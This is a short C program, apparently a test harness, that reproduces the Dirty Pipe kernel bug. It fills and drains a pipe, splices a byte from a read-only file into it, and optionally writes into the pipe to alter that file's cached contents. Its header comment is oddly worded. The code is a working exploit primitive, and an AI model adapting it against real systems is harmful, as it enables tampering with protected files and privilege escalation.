/* The calls of Dirty Pipe on a file of its own image: fills a pipe, drains it, splices the file into it and, when argument 1 is "write", writes to it, else moves on
 * what is in it, as servers do. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static char block[4096];

int main(int argc, char **argv)
{
	int file = open("/tools/nothing", O_RDONLY), sink = open("/dev/null", O_WRONLY), ends[2];
	if (file < 0 || sink < 0 || pipe(ends)) return 1;
	int size = fcntl(ends[1], F_GETPIPE_SZ);
	for (int left = size; left > 0; left -= sizeof(block)) if (write(ends[1], block, sizeof(block)) < 0) return 1;
	for (int left = size; left > 0; left -= sizeof(block)) if (read(ends[0], block, sizeof(block)) < 0) return 1;
	off64_t from = 4;
	if (splice(file, &from, ends[1], 0, 1, 0) != 1) return 1;
	if (argc > 1 && strcmp(argv[1], "write") == 0) return write(ends[1], "x", 1) != 1;
	return splice(ends[0], 0, sink, 0, 1, 0) != 1;
}
